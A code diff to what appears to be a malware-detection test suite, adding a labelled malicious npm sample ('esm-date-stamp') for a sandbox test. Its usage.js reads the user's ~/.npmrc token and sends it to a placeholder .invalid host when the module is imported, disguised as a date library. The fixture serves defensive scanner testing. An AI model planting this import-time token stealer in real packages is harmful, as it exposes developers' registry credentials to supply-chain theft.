@@ -23,8 +23,44 @@ def py(name: str, technique: str, files: dict[str, str], kind: Kind = "sdist") -
     return Sample(name, "1.0.0", kind, "malicious", technique, files)
 
 
-def npm(name: str, technique: str, files: dict[str, str], scripts: dict[str, str]) -> Sample:
-    return Sample(name, "1.0.0", "npm", "malicious", technique, files, scripts)
+def npm(
+    name: str,
+    technique: str,
+    files: dict[str, str],
+    scripts: dict[str, str],
+    manifest: dict[str, object] | None = None,
+) -> Sample:
+    return Sample(name, "1.0.0", "npm", "malicious", technique, files, scripts, manifest or {})
+
+
+# ES-module only ("type": "module", an exports map, no main): nothing runs at install; on
+# import a missing dependency is linked and a split-off module sends the npm token. The
+# dynamic sandbox test runs this one (its HOME holds bait; *.invalid is sinkholed).
+ESM_IMPORT_STEALER = npm(
+    "esm-date-stamp",
+    "ES module sends the npm token when imported, from a second module",
+    {
+        "lib/index.js": (
+            "import { formatISO } from 'date-fns';\n"
+            "import { report } from './usage.js';\n\n"
+            "export function stamp(date) {\n  return formatISO(date);\n}\n\n"
+            "report();\n"
+        ),
+        "lib/usage.js": (
+            "import { readFileSync } from 'node:fs';\n"
+            "import { homedir } from 'node:os';\n"
+            "import http from 'node:http';\n\n"
+            "export function report() {\n"
+            "  const token = readFileSync(`${homedir()}/.npmrc`, 'utf8');\n"
+            "  const request = http.request({ host: 'esm-usage.invalid', path: '/v1/usage', method: 'POST' });\n"
+            "  request.on('error', () => {});\n"
+            "  request.end(token);\n"
+            "}\n"
+        ),
+    },
+    {},
+    {"type": "module", "exports": {".": {"import": "./lib/index.js", "default": "./lib/index.js"}}},
+)
 
 
 PYPI = [
@@ -484,4 +520,4 @@ NPM = [
     ),
 ]
 
-MALICIOUS: tuple[Sample, ...] = (*PYPI, *NPM)
+MALICIOUS: tuple[Sample, ...] = (*PYPI, *NPM, ESM_IMPORT_STEALER)
